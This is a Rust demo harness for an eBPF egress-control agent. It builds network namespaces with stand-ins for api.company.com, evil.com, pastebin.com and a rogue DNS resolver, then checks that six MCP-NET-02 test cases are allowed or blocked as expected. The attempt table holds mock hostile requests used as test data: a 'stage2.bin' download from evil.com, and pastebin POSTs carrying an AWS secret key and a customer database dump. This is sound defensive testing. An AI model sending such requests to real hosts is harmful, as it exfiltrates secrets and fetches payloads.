//! egress-demo: MCP-NET-02's six dynamic test cases, played offline against the real agent.
//!
//! It builds a small world in network namespaces (the workload's namespace and a "remote"
//! one holding stand-ins for api.company.com, evil.com, pastebin.com, database.internal and
//! a rogue DNS resolver, plus a DNS server, dnsmasq, that answers those names), runs the
//! `egress-probe` workload as uid nobody under `egress-agent exec --policy policies/demo.yaml`
//! (the agent resolves the policy's host names through the demo's DNS server, never through
//! the machine's), and reports for each case what the workload's syscalls returned, what
//! reached the listeners and what the agent logged. A control run of the same
//! attempts without the agent first shows that every destination is reachable, so a block
//! is the agent's doing and not a broken network. Case 4 (rate limits) runs only when the
//! agent accepts a policy with `rate_limits`; otherwise it is reported as NOT YET ENFORCED.
//!
//! Run it with `cargo xtask demo` (root). Exit status: 0 when every enforced case passes,
//! 1 when one fails or the world cannot be built, 130 when interrupted (after clean-up).
//! Everything it creates (namespaces, cgroups, processes, temp files) is owned by guards and
//! removed on the way out, also on failure.

#![expect(
    clippy::print_stdout,
    reason = "the demo's report on stdout is its whole purpose"
)]

use std::fmt::Write as _;
use std::io::{Read as _, Write as _};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Mutex, PoisonError};
use std::time::Duration;

use anyhow::{Context as _, Result, bail};
use egress_tests::agent::{AgentRun, agent_bin, workspace_root};
use egress_tests::dnsmasq::Dnsmasq;
use egress_tests::probe::{ProbeResult, errno_name};
use egress_tests::process::RunOutput;
use egress_tests::server::{Listener, contains};
use egress_tests::testbed::Testbed;

/// The policy the demo enforces, relative to the workspace root.
const POLICY: &str = "policies/demo.yaml";
/// How long an allowed attempt's bytes may take to reach the listener.
const ARRIVAL_WAIT: Duration = Duration::from_secs(3);
/// Deadline for the agent run (start-up, the attempts, shut-down).
const AGENT_TIMEOUT: Duration = Duration::from_secs(60);
const EXIT_INTERRUPTED: u8 = 130;
/// The agent's Prometheus endpoint, inside the workload's namespace.
const METRICS_ADDR: SocketAddr = SocketAddr::new(IpAddr::V4(Ipv4Addr::LOCALHOST), 9464);
/// How long the workload stays after its attempts, so that the metrics can be scraped.
const LINGER: Duration = Duration::from_millis(1500);
const SCRAPE_EVERY: Duration = Duration::from_millis(100);
/// Case 4: MCP-NET-02's "101 connections in 60 seconds".
const BURST: usize = 101;
/// MCP-NET-02's example `rate_limits`, appended to the demo policy for case 4.
const RATE_LIMITS: &str = "  rate_limits:
    per_destination:
      max_connections: 100
      time_window: 60
    global:
      max_new_connections: 1000
      time_window: 60
";

const API_V4: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 10);
const API_V6: Ipv6Addr = Ipv6Addr::new(0xfd00, 0xe9, 0, 0, 0, 0, 0, 0x10);
const DATABASE: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 20);
const EVIL: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 66);
const PASTEBIN: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 67);
const ROGUE_RESOLVER: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 99);
/// The demo's own DNS server (dnsmasq in the remote namespace), which the agent asks.
const DNS_SERVER: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 53);
/// A host inside the policy's denied range 198.18.1.0/24.
const DENIED_RANGE_HOST: Ipv4Addr = Ipv4Addr::new(198, 18, 1, 5);

/// What the demo's DNS server answers, and nothing else.
const DNS_RECORDS: [(&str, IpAddr); 5] = [
    ("api.company.com", IpAddr::V4(API_V4)),
    ("api.company.com", IpAddr::V6(API_V6)),
    ("database.internal", IpAddr::V4(DATABASE)),
    ("evil.com", IpAddr::V4(EVIL)),
    ("pastebin.com", IpAddr::V4(PASTEBIN)),
];

#[derive(Clone, Copy, PartialEq, Eq)]
enum Proto {
    Tcp,
    Udp,
}

/// A listener in the remote namespace, standing in for a service.
struct Service {
    /// A host name the demo's DNS server answers with this address, or a description.
    name: &'static str,
    addr: SocketAddr,
    proto: Proto,
}

const fn service(name: &'static str, ip: IpAddr, port: u16, proto: Proto) -> Service {
    Service {
        name,
        addr: SocketAddr::new(ip, port),
        proto,
    }
}

impl Service {
    /// `api.company.com (198.18.0.10):443` for a name the DNS server answers with this
    /// address, else `rogue resolver 198.18.0.99:53`.
    fn dest(&self) -> String {
        let (ip, port) = (self.addr.ip(), self.addr.port());
        if DNS_RECORDS.contains(&(self.name, ip)) {
            format!("{} ({ip}):{port}", self.name)
        } else {
            format!("{} {}", self.name, self.addr)
        }
    }
}

const SERVICES: [Service; 10] = [
    service("api.company.com", IpAddr::V4(API_V4), 443, Proto::Tcp),
    service("api.company.com", IpAddr::V6(API_V6), 443, Proto::Tcp),
    service("api.company.com", IpAddr::V4(API_V4), 80, Proto::Tcp),
    service("api.company.com", IpAddr::V6(API_V6), 80, Proto::Tcp),
    service("database.internal", IpAddr::V4(DATABASE), 5432, Proto::Tcp),
    service("evil.com", IpAddr::V4(EVIL), 443, Proto::Tcp),
    service(
        "denied range",
        IpAddr::V4(DENIED_RANGE_HOST),
        443,
        Proto::Tcp,
    ),
    service("rogue resolver", IpAddr::V4(ROGUE_RESOLVER), 53, Proto::Udp),
    service("pastebin.com", IpAddr::V4(PASTEBIN), 443, Proto::Tcp),
    service("pastebin.com", IpAddr::V4(PASTEBIN), 80, Proto::Tcp),
];

#[derive(Clone, Copy, PartialEq, Eq)]
enum Expect {
    Allowed,
    Blocked,
}

/// One thing the workload tries: a probe op against one service.
struct Attempt {
    case: u8,
    /// Index into [`SERVICES`].
    service: usize,
    /// Probe op verb and socket kind, e.g. `send tcp4`.
    how: &'static str,
    /// What is sent; tagged per run so each run's bytes can be told apart.
    body: &'static str,
    expect: Expect,
}

const ATTEMPTS: [Attempt; 12] = [
    Attempt {
        case: 1,
        service: 0,
        how: "send tcp4",
        body: "GET /v1/status HTTP/1.1 Host: api.company.com",
        expect: Expect::Allowed,
    },
    Attempt {
        case: 1,
        service: 1,
        how: "send tcp6",
        body: "GET /v1/status HTTP/1.1 Host: api.company.com",
        expect: Expect::Allowed,
    },
    Attempt {
        case: 1,
        service: 4,
        how: "send tcp4",
        body: "SELECT 1;",
        expect: Expect::Allowed,
    },
    Attempt {
        case: 2,
        service: 5,
        how: "send tcp4",
        body: "GET /stage2.bin HTTP/1.1 Host: evil.com",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 2,
        // An AF_INET6 socket to ::ffff:198.18.0.66: the same host through the other hook.
        service: 5,
        how: "send tcp6",
        body: "GET /stage2.bin HTTP/1.1 Host: evil.com (IPv4-mapped)",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 2,
        service: 6,
        how: "send tcp4",
        body: "GET / HTTP/1.1 Host: 198.18.1.5",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 3,
        service: 7,
        how: "sendto udp4",
        body: "DNS query A? api.company.com",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 3,
        service: 7,
        how: "udpconnect-send udp4",
        body: "DNS query A? api.company.com (connected socket)",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 5,
        service: 8,
        how: "send tcp4",
        body: "POST /api/api_post.php HTTP/1.1 Host: pastebin.com api_paste_code=AWS_SECRET_ACCESS_KEY%3D...",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 5,
        service: 9,
        how: "send tcp4",
        body: "POST /api/api_post.php HTTP/1.1 Host: pastebin.com api_paste_code=customer-db-dump",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 6,
        service: 2,
        how: "send tcp4",
        body: "GET /v1/status HTTP/1.1 Host: api.company.com (plain HTTP)",
        expect: Expect::Blocked,
    },
    Attempt {
        case: 6,
        service: 3,
        how: "send tcp6",
        body: "GET /v1/status HTTP/1.1 Host: api.company.com (plain HTTP, IPv6)",
        expect: Expect::Blocked,
    },
];

/// MCP-NET-02's dynamic test cases, as the standard words them.
const CASES: [(u8, &str); 6] = [
    (
        1,
        "Allowed connection: connect to api.company.com:443 -> success",
    ),
    (
        2,
        "Blocked connection: connect to evil.com:443 -> refused (and a denied range)",
    ),
    (
        3,
        "DNS filtering: query an unauthorized DNS server -> blocked",
    ),
    (
        4,
        "Rate limiting: 101 connections in 60 seconds -> last one blocked",
    ),
    (5, "Data exfiltration: POST to pastebin.com -> blocked"),
    (
        6,
        "Protocol enforcement: HTTP to an HTTPS-only host -> blocked",
    ),
];

static INTERRUPTED: AtomicBool = AtomicBool::new(false);

extern "C" fn on_interrupt(_signal: libc::c_int) {
    INTERRUPTED.store(true, Ordering::SeqCst);
}

fn main() -> ExitCode {
    if let Err(e) = catch_interrupts() {
        eprintln!("egress-demo: {e:#}");
        return ExitCode::FAILURE;
    }
    let outcome = demo();
    // Every guard (namespaces, cgroups, listeners, temp files) has been dropped by now.
    if INTERRUPTED.load(Ordering::SeqCst) {
        eprintln!("egress-demo: interrupted; everything the demo created has been removed");
        return ExitCode::from(EXIT_INTERRUPTED);
    }
    match outcome {
        Ok(true) => ExitCode::SUCCESS,
        Ok(false) => ExitCode::FAILURE,
        Err(e) => {
            eprintln!("egress-demo: error: {e:#}");
            ExitCode::FAILURE
        }
    }
}

/// SIGINT/SIGTERM/SIGHUP only set a flag: the run is bounded (the agent has a deadline), and
/// dying mid-way would leave namespaces and cgroups behind. Handlers reset on exec, so the
/// agent and the workload keep the default dispositions.
fn catch_interrupts() -> Result<()> {
    use nix::sys::signal::{SaFlags, SigAction, SigHandler, SigSet, Signal, sigaction};
    let action = SigAction::new(
        SigHandler::Handler(on_interrupt),
        SaFlags::SA_RESTART,
        SigSet::empty(),
    );
    for signal in [Signal::SIGINT, Signal::SIGTERM, Signal::SIGHUP] {
        // SAFETY: the handler only stores to an atomic, which is async-signal-safe.
        unsafe { sigaction(signal, &action) }.with_context(|| format!("handling {signal}"))?;
    }
    Ok(())
}

/// Returns whether every enforced case passed.
fn demo() -> Result<bool> {
    if !nix::unistd::geteuid().is_root() {
        bail!(
            "the demo needs root: it creates network namespaces, veth links and cgroups, and the \
             agent loads eBPF programs; run `cargo xtask demo` as root"
        );
    }
    let root = workspace_root();
    let policy = root.join(POLICY);
    let policy_text = std::fs::read_to_string(&policy)
        .with_context(|| format!("reading {}", policy.display()))?;
    let agent = agent_bin()?;
    let probe = probe_bin()?;

    println!("egress demo: MCP-NET-02 dynamic test cases, offline, against the real agent");
    println!("{}", "=".repeat(78));
    let tb = Testbed::new(&probe).context("building the demo world")?;
    let listeners = build_world(&tb)?;
    // Declared after `tb`, so dropped before the namespace it runs in is deleted.
    let dns = start_dns(&tb)?;
    let resolv_conf = write_resolv_conf()?;
    print_world(&tb);
    println!("\nPolicy {POLICY} (comments left out):");
    for line in policy_text
        .lines()
        .filter(|l| !l.trim_start().starts_with('#') && !l.trim().is_empty())
    {
        println!("  | {line}");
    }

    control_run(&tb, &listeners)?;
    if INTERRUPTED.load(Ordering::SeqCst) {
        return Ok(false);
    }

    // Bytes from here on belong to the agent run.
    let before: Vec<usize> = listeners.iter().map(|l| l.received().len()).collect();
    println!(
        "\nThe same attempts under the agent:\n  {} exec --policy {POLICY} --user nobody \
         --resolv-conf FILE -- egress-probe OPS...\n  (FILE: `nameserver {DNS_SERVER}`, the demo's \
         DNS server)",
        agent.display()
    );
    let ops: Vec<String> = ATTEMPTS.iter().map(|a| op(a, "demo")).collect();
    let agent_run = AgentRun::new(&policy, &tb.cgroups, tb.probe.path())?
        .agent_arg("--resolv-conf")
        .agent_arg(resolv_conf.path())
        .agent_arg("--log-format")
        .agent_arg("json")
        .agent_arg("--metrics-addr")
        .agent_arg(METRICS_ADDR.to_string())
        .args(&ops)
        // Keeps the agent (and its metrics endpoint) up for a last scrape after the attempts.
        .arg(format!("sleep {}", LINGER.as_millis()))
        .timeout(AGENT_TIMEOUT);
    let (run, metrics) = run_scraping_metrics(&agent_run, &tb)?;
    std::thread::sleep(egress_tests::server::SETTLE);

    let mut all_passed = true;
    let mut rate_limits_enforced = None;
    for &(case, title) in &CASES {
        println!("\nCase {case}. {title}");
        if case == 4 {
            rate_limits_enforced =
                rate_limit_case(&agent, &tb, &policy_text, resolv_conf.path(), &listeners[0])?;
            all_passed &= rate_limits_enforced.unwrap_or(true);
            continue;
        }
        for (attempt, op) in ATTEMPTS.iter().zip(&ops).filter(|(a, _)| a.case == case) {
            let listener = &listeners[attempt.service];
            let new = listener
                .wait_for(
                    payload(attempt, "demo").as_bytes(),
                    if attempt.expect == Expect::Allowed {
                        ARRIVAL_WAIT
                    } else {
                        Duration::ZERO
                    },
                )
                .split_off(before[attempt.service]);
            let passed = report_attempt(attempt, run.result(op), &new, &payload(attempt, "demo"));
            if attempt.expect == Expect::Blocked {
                print_logged_event(&run, attempt);
            }
            all_passed &= passed;
        }
    }

    print_agent_output(&run);
    print_dns_queries(&dns);
    print_counters(&run);
    print_metrics(metrics.as_deref());
    print_blocked_in_log(&run);
    all_passed &= agent_exit_ok(&run);

    println!("\n{}", "=".repeat(78));
    if all_passed && rate_limits_enforced.is_some() {
        println!("RESULT: PASS: all six cases are enforced as MCP-NET-02 expects.");
    } else if all_passed {
        println!(
            "RESULT: PASS: cases 1, 2, 3, 5 and 6 are enforced as MCP-NET-02 expects; case 4 (rate \
             limits) is NOT YET ENFORCED by this version."
        );
    } else {
        println!(
            "RESULT: FAIL: at least one enforced case did not behave as expected (see above)."
        );
    }
    Ok(all_passed)
}

/// The probe next to this binary (cargo builds both into the same directory), or
/// `$EGRESS_PROBE_BIN`.
fn probe_bin() -> Result<PathBuf> {
    let path = match std::env::var_os("EGRESS_PROBE_BIN") {
        Some(p) => PathBuf::from(p),
        None => std::env::current_exe()
            .context("locating the demo binary")?
            .with_file_name("egress-probe"),
    };
    if !path.is_file() {
        bail!(
            "the workload binary {} does not exist: build it with `cargo build --release -p \
             egress-tests --bins` (`cargo xtask demo` does), or set EGRESS_PROBE_BIN",
            path.display()
        );
    }
    Ok(path)
}

/// Adds every stand-in address to the remote namespace and starts one listener per service,
/// in [`SERVICES`] order.
fn build_world(tb: &Testbed) -> Result<Vec<Listener>> {
    let mut addresses: Vec<IpAddr> = SERVICES.iter().map(|s| s.addr.ip()).collect();
    addresses.sort();
    addresses.dedup();
    for ip in addresses {
        tb.topo
            .add_remote_addr(ip)
            .with_context(|| format!("adding {ip} to the remote namespace"))?;
    }
    SERVICES
        .iter()
        .map(|s| {
            match s.proto {
                Proto::Tcp => tb.listen_tcp(s.addr),
                Proto::Udp => tb.listen_udp(s.addr),
            }
            .with_context(|| format!("starting the {} listener on {}", s.name, s.addr))
        })
        .collect()
}

/// Starts the demo's DNS server on an address of its own in the remote namespace.
fn start_dns(tb: &Testbed) -> Result<Dnsmasq> {
    let ip = IpAddr::V4(DNS_SERVER);
    tb.topo
        .add_remote_addr(ip)
        .with_context(|| format!("adding {ip} to the remote namespace"))?;
    Dnsmasq::start(tb.remote(), ip, &DNS_RECORDS)
        .with_context(|| format!("starting the demo's DNS server on {ip}"))
}

/// The resolv.conf the agent reads: the demo's DNS server only.
fn write_resolv_conf() -> Result<tempfile::NamedTempFile> {
    let mut file = tempfile::Builder::new()
        .prefix("egress-demo-resolv-")
        .suffix(".conf")
        .tempfile()
        .context("creating the demo's resolv.conf")?;
    writeln!(file, "nameserver {DNS_SERVER}").context("writing the demo's resolv.conf")?;
    Ok(file)
}

fn print_world(tb: &Testbed) {
    println!(
        "\nWorld: workload namespace {} --veth-- remote namespace {}",
        tb.client().name(),
        tb.remote().name()
    );
    println!(
        "Names are served by a local DNS server, dnsmasq at {DNS_SERVER}:53 in the remote \
         namespace, which answers only:"
    );
    for (name, ip) in &DNS_RECORDS {
        let kind = if ip.is_ipv4() { "A" } else { "AAAA" };
        println!("  {name:<18} {kind:<4} {ip}");
    }
    println!(
        "The agent resolves the policy's host names through it (--resolv-conf); the workload \
         connects by address."
    );
    println!("Services (listeners in the remote namespace):");
    for s in &SERVICES {
        let proto = match s.proto {
            Proto::Tcp => "tcp",
            Proto::Udp => "udp",
        };
        println!("  {proto} {}", s.dest());
    }
    println!("Workload: egress-probe as uid nobody (65534), standing in for an MCP server");
}

/// Runs every attempt without the agent: all must connect and deliver, or the demo world is
/// broken and a block under the agent would prove nothing.
fn control_run(tb: &Testbed, listeners: &[Listener]) -> Result<()> {
    let ops: Vec<String> = ATTEMPTS.iter().map(|a| op(a, "control")).collect();
    let refs: Vec<&str> = ops.iter().map(String::as_str).collect();
    let out = tb.run_probe(&refs).context("control run of the probe")?;
    let mut problems = Vec::new();
    for (attempt, op) in ATTEMPTS.iter().zip(&ops) {
        let s = &SERVICES[attempt.service];
        match out.result(op) {
            Some(r) if r.ok => {}
            Some(r) => problems.push(format!(
                "{} {}: {}",
                s.name,
                s.addr,
                r.error.as_deref().unwrap_or("failed")
            )),
            None => problems.push(format!("{} {}: the op did not run", s.name, s.addr)),
        }
        let got = listeners[attempt.service]
            .wait_for(payload(attempt, "control").as_bytes(), ARRIVAL_WAIT);
        if !contains(&got, payload(attempt, "control").as_bytes()) {
            problems.push(format!("{} {}: nothing arrived", s.name, s.addr));
        }
    }
    if !problems.is_empty() {
        bail!(
            "control run without the agent failed, so the demo world is broken: {}\n{}",
            problems.join("; "),
            out.describe()
        );
    }
    println!(
        "\nControl run WITHOUT the agent: all {} attempts connected and their bytes arrived \
         (every destination below is reachable; a block is the agent's doing).",
        ATTEMPTS.len()
    );
    Ok(())
}

fn payload(attempt: &Attempt, tag: &str) -> String {
    format!("[{tag}] {}", attempt.body)
}

fn op(attempt: &Attempt, tag: &str) -> String {
    let s = &SERVICES[attempt.service];
    format!(
        "{} {} {} {}",
        attempt.how,
        s.addr.ip(),
        s.addr.port(),
        payload(attempt, tag)
    )
}

/// Prints one line for an attempt and returns whether it behaved as expected.
fn report_attempt(
    attempt: &Attempt,
    result: Option<&ProbeResult>,
    new_bytes: &[u8],
    payload: &str,
) -> bool {
    let s = &SERVICES[attempt.service];
    let syscall = match result {
        None => "did not run".to_owned(),
        Some(r) if r.ok => "ok".to_owned(),
        Some(r) => r
            .errno
            .map_or_else(|| r.error.clone().unwrap_or_default(), errno_name),
    };
    let arrived = contains(new_bytes, payload.as_bytes());
    let (passed, expected) = match attempt.expect {
        Expect::Allowed => (result.is_some_and(|r| r.ok) && arrived, "allowed"),
        Expect::Blocked => (
            result.is_some_and(|r| r.failed_with(libc::EPERM)) && new_bytes.is_empty(),
            "blocked (EPERM)",
        ),
    };
    let bytes = if new_bytes.is_empty() {
        "nothing arrived".to_owned()
    } else if arrived {
        format!("{} bytes arrived", new_bytes.len())
    } else {
        format!("{} unexpected bytes arrived", new_bytes.len())
    };
    println!(
        "  {}  {:<38} {:<22} expect {expected:<15} syscall: {syscall:<7} listener: {bytes}",
        if passed { "PASS" } else { "FAIL" },
        s.dest(),
        attempt.how,
    );
    passed
}

/// The agent hook that judges a probe op (`send tcp6`, `sendto udp4`, ...).
fn hook_of(how: &str) -> &'static str {
    match (how.starts_with("sendto "), how.ends_with('6')) {
        (false, false) => "connect4",
        (false, true) => "connect6",
        (true, false) => "sendmsg4",
        (true, true) => "sendmsg6",
    }
}

/// Under a blocked attempt: the agent's `egress_blocked` line for it (same destination,
/// port and hook), with `dst.host` when the address came from a policy host name.
/// Informational, like [`print_blocked_in_log`].
fn print_logged_event(run: &RunOutput, attempt: &Attempt) {
    let addr = SERVICES[attempt.service].addr;
    let (ip, port, hook) = (
        addr.ip().to_string(),
        addr.port().to_string(),
        hook_of(attempt.how),
    );
    let field = |f: &LogObject, key: &str| f.get(key).map(json_text);
    let event = log_objects(run).find(|f| {
        field(f, "event").as_deref() == Some("egress_blocked")
            && field(f, "dst.ip").as_deref() == Some(ip.as_str())
            && field(f, "dst.port").as_deref() == Some(port.as_str())
            && field(f, "hook").as_deref() == Some(hook)
    });
    let Some(event) = event else {
        println!("        logged: no egress_blocked line for {addr} ({hook})");
        return;
    };
    let mut line = String::from("        logged:");
    for key in ["reason", "hook", "dst.host", "rule.target"] {
        if let Some(value) = field(&event, key) {
            let _ = write!(line, " {key}={value}");
        }
    }
    if !event.contains_key("dst.host") {
        line.push_str(" (no dst.host: not an address of a policy host)");
    }
    println!("{line}");
}

/// Case 4. The demo policy plus MCP-NET-02's `rate_limits` goes to `egress-agent check`
/// first: an agent that refuses it does not enforce rate limits, and the case says so
/// rather than fake it. An agent that accepts it is held to it: a burst of 101 connections
/// to api.company.com under 100 per 60 s must end with the 101st refused. Returns `None` when
/// the agent does not enforce rate limits, else whether the case passed.
fn rate_limit_case(
    agent: &Path,
    tb: &Testbed,
    policy_text: &str,
    resolv_conf: &Path,
    listener: &Listener,
) -> Result<Option<bool>> {
    let with_limits = format!("{}\n{RATE_LIMITS}", policy_text.trim_end());
    let path = tb.write_policy(&with_limits)?;
    let out = Command::new(agent)
        .arg("check")
        .arg(&path)
        .output()
        .with_context(|| format!("running {} check", agent.display()))?;
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stderr),
        String::from_utf8_lossy(&out.stdout)
    );
    println!(
        "  policy: {POLICY} plus MCP-NET-02's rate_limits (per destination 100 per 60 s, global \
         1000 per 60 s)"
    );
    println!("  `egress-agent check` on it -> {}", out.status);
    if !out.status.success() {
        for line in text.lines().filter(|l| !l.trim().is_empty()).take(6) {
            println!("    | {line}");
        }
        println!(
            "  NOT YET ENFORCED: rate limits land in a later version; the agent refuses policies \
             with rate_limits"
        );
        return Ok(None);
    }

    let target = SERVICES[0].addr;
    let op = format!("connect tcp4 {} {}", target.ip(), target.port());
    let accepted_before = listener.connections();
    let run = AgentRun::new(&path, &tb.cgroups, tb.probe.path())?
        .agent_arg("--resolv-conf")
        .agent_arg(resolv_conf)
        .agent_arg("--log-format")
        .agent_arg("json")
        .args(std::iter::repeat_n(&op, BURST))
        .timeout(AGENT_TIMEOUT)
        .run_in(tb.client())
        .context("running the agent for the rate-limit case")?;
    std::thread::sleep(egress_tests::server::SETTLE);
    let accepted = listener.connections() - accepted_before;

    // The probe prints one result per op, in order.
    let results = &run.results;
    let first_ok = results.iter().take(BURST - 1).filter(|r| r.ok).count();
    let last = results.get(BURST - 1);
    let last_text = match last {
        None => "did not run".to_owned(),
        Some(r) if r.ok => "ok".to_owned(),
        Some(r) => r
            .errno
            .map_or_else(|| r.error.clone().unwrap_or_default(), errno_name),
    };
    let passed = results.len() == BURST
        && first_ok == BURST - 1
        && last.is_some_and(|r| r.failed_with(libc::EPERM))
        && accepted == BURST - 1
        && run.exit_code() == Some(0);
    println!(
        "  {}  {:<38} {BURST} x `connect tcp4` in one burst ({:.1?} for the whole agent run)",
        if passed { "PASS" } else { "FAIL" },
        SERVICES[0].dest(),
        run.elapsed
    );
    println!(
        "        connections 1-{}: {first_ok} ok; connection {BURST}: {last_text}; the listener \
         accepted {accepted} new connections (expected {} ok, EPERM, {})",
        BURST - 1,
        BURST - 1,
        BURST - 1
    );
    let blocked_lines: Vec<String> = run
        .stderr
        .lines()
        .filter(|l| {
            log_object(l).is_some_and(|f| f.get("level").map(json_text).as_deref() == Some("WARN"))
        })
        .map(render_log_line)
        .collect();
    for line in &blocked_lines {
        println!("        agent: {line}");
    }
    if !passed {
        println!("{}", run.describe());
    }
    Ok(Some(passed))
}

/// The agent's exit status (the workload's own when all went well) and its log lines.
fn print_agent_output(run: &RunOutput) {
    println!(
        "\nAgent: {}{} after {:.1?}",
        run.status,
        if run.timed_out {
            " (TIMED OUT, killed)"
        } else {
            ""
        },
        run.elapsed
    );
    println!("Agent log (stderr, JSON lines rendered):");
    for line in run.stderr.lines().filter(|l| !l.trim().is_empty()) {
        println!("  {}", render_log_line(line));
    }
    for line in &run.other_stdout {
        println!("  workload stdout: {line}");
    }
}

/// What the demo's DNS server was asked, in both agent runs: the agent's lookups (the
/// workload is allowed no DNS), each distinct query once with its count.
fn print_dns_queries(dns: &Dnsmasq) {
    let queries = dns.queries();
    let mut distinct: Vec<(&str, usize)> = Vec::new();
    for q in &queries {
        // Without dnsmasq's `Mon dd hh:mm:ss dnsmasq[pid]: ` prefix.
        let text = q.split_once("]: ").map_or(q.as_str(), |(_, rest)| rest);
        match distinct.iter_mut().find(|(t, _)| *t == text) {
            Some((_, n)) => *n += 1,
            None => distinct.push((text, 1)),
        }
    }
    println!(
        "DNS queries the demo's DNS server received during the agent runs ({} in dnsmasq's log):",
        queries.len()
    );
    for (text, n) in distinct {
        println!("  {n:>3} x {text}");
    }
}

/// Runs the agent while a thread in the workload's namespace scrapes its metrics endpoint;
/// returns the run and the last exposition scraped (taken after the attempts, while the
/// workload lingers).
fn run_scraping_metrics(agent_run: &AgentRun, tb: &Testbed) -> Result<(RunOutput, Option<String>)> {
    let done = AtomicBool::new(false);
    let last = Mutex::new(None);
    let netns = tb.client().handle();
    let run = std::thread::scope(|scope| {
        scope.spawn(|| {
            if netns.enter_current_thread().is_err() {
                return;
            }
            while !done.load(Ordering::SeqCst) {
                if let Ok(body) = scrape_metrics() {
                    *last.lock().unwrap_or_else(PoisonError::into_inner) = Some(body);
                }
                std::thread::sleep(SCRAPE_EVERY);
            }
        });
        let run = agent_run.run_in(tb.client());
        done.store(true, Ordering::SeqCst);
        run
    })
    .context("running the agent")?;
    Ok((
        run,
        last.into_inner().unwrap_or_else(PoisonError::into_inner),
    ))
}

/// One `GET /metrics`; the body of a 200 answer.
fn scrape_metrics() -> std::io::Result<String> {
    let mut stream = TcpStream::connect_timeout(&METRICS_ADDR, SCRAPE_EVERY)?;
    stream.set_read_timeout(Some(Duration::from_secs(1)))?;
    stream.write_all(b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer)?;
    match answer.split_once("\r\n\r\n") {
        Some((head, body)) if head.split_whitespace().nth(1) == Some("200") => Ok(body.to_owned()),
        _ => Err(std::io::Error::other(format!(
            "unexpected answer: {:?}",
            answer.lines().next().unwrap_or_default()
        ))),
    }
}

/// The agent's Prometheus samples (the `egress_*` lines, without HELP/TYPE comments).
fn print_metrics(exposition: Option<&str>) {
    let Some(text) = exposition else {
        println!("\nMetrics: no answer from http://{METRICS_ADDR}/metrics while the agent ran");
        return;
    };
    println!("\nMetrics scraped from http://{METRICS_ADDR}/metrics after the attempts:");
    for line in text.lines().filter(|l| l.starts_with("egress_")) {
        println!("  {line}");
    }
}

/// The verdict counters the agent logs when the workload has exited, as a table.
fn print_counters(run: &RunOutput) {
    let rows: Vec<[String; 4]> = log_objects(run)
        .filter(|f| f.get("message").and_then(|m| m.as_str()) == Some("verdict count"))
        .map(|f| {
            ["verdict", "reason", "protocol", "count"]
                .map(|k| f.get(k).map(json_text).unwrap_or_default())
        })
        .collect();
    if rows.is_empty() {
        println!("\nKernel verdict counters: none in the agent's log");
        return;
    }
    println!("\nKernel verdict counters, as the agent logged them when the workload had exited:");
    println!(
        "  {:<8} {:<20} {:<9} {:>5}",
        "verdict", "reason", "protocol", "count"
    );
    for [verdict, reason, protocol, count] in rows {
        println!("  {verdict:<8} {reason:<20} {protocol:<9} {count:>5}");
    }
}

/// MCP-NET-02 wants blocked attempts in the logs: say how many of the demo's blocked
/// destinations (address and port) a line of the agent's log names. Informational: it
/// depends on what this version logs.
fn print_blocked_in_log(run: &RunOutput) {
    let mut blocked: Vec<SocketAddr> = ATTEMPTS
        .iter()
        .filter(|a| a.expect == Expect::Blocked)
        .map(|a| SERVICES[a.service].addr)
        .collect();
    blocked.sort();
    blocked.dedup();
    let lines: Vec<Vec<String>> = log_objects(run)
        .map(|f| f.values().map(json_text).collect())
        .collect();
    let named = blocked
        .iter()
        .filter(|addr| {
            let (ip, port, both) = (
                addr.ip().to_string(),
                addr.port().to_string(),
                addr.to_string(),
            );
            lines.iter().any(|values| {
                values.iter().any(|v| v.contains(&both))
                    || (values.iter().any(|v| v == &ip) && values.iter().any(|v| v == &port))
            })
        })
        .count();
    println!(
        "Blocked destinations named in the agent's log: {named} of {}{}",
        blocked.len(),
        if named == 0 {
            " (no line of the log above names a blocked address and port)"
        } else {
            ""
        }
    );
}

fn agent_exit_ok(run: &RunOutput) -> bool {
    let ok = !run.timed_out && run.exit_code() == Some(0);
    if !ok {
        println!(
            "FAIL: the agent run did not end cleanly (expected exit status 0, the workload's)\n{}",
            run.describe()
        );
    }
    ok
}

type LogObject = serde_json::Map<String, serde_json::Value>;

fn log_object(line: &str) -> Option<LogObject> {
    match serde_json::from_str::<serde_json::Value>(line) {
        Ok(serde_json::Value::Object(fields)) => Some(fields),
        _ => None,
    }
}

/// The agent's JSON log lines.
fn log_objects(run: &RunOutput) -> impl Iterator<Item = LogObject> + '_ {
    run.stderr.lines().filter_map(log_object)
}

fn json_text(v: &serde_json::Value) -> String {
    match v {
        serde_json::Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// Long field values (the workload's command line holds every op) cut to a readable length.
fn shorten(value: &str) -> String {
    const MAX: usize = 60;
    match value.char_indices().nth(MAX) {
        Some((end, _)) => format!("{}...", &value[..end]),
        None => value.to_owned(),
    }
}

/// `LEVEL message key=value ...` from a tracing JSON line; other lines unchanged.
fn render_log_line(line: &str) -> String {
    let Some(fields) = log_object(line) else {
        return line.to_owned();
    };
    let level = fields.get("level").map(json_text).unwrap_or_default();
    let message = fields.get("message").map(json_text).unwrap_or_default();
    let mut out = format!("{level:<5} {message}");
    for (key, value) in &fields {
        if !matches!(key.as_str(), "level" | "message" | "timestamp" | "target") {
            let _ = write!(out, " {key}={}", shorten(&json_text(value)));
        }
    }
    out
}
